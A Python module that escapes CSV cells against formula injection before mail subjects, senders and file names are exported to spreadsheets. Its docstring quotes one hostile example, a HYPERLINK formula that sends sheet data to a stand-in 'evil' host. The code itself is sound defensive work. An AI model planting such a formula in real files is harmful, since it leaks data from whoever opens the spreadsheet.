"""CSV that a spreadsheet opens without running anything found in the mail.

Subjects, senders and file names come from strangers. A CSV cell starting with `=`, `+`, `-`
or `@` is a formula to Excel and LibreOffice Calc (`=HYPERLINK("http://evil/?"&A1,"Click")`
sends the sheet's data away; DDE formulas can start programs), and so, after the spreadsheet
strips them, is one starting with a tab or a carriage return. As OWASP recommends
(https://owasp.org/www-community/attacks/CSV_Injection), such a text cell gets a leading
single quote, which the spreadsheet shows as text. Numbers stay numbers: an integer or a
real from the store, or a text that is exactly a number ("-12", "+3.5"), is written as is.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """`value` as a CSV cell that a spreadsheet cannot take for a formula."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(columns: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """The header and rows as CSV (LF line ends), every cell passed through `safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([safe_cell(c) for c in columns])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buf.getvalue()
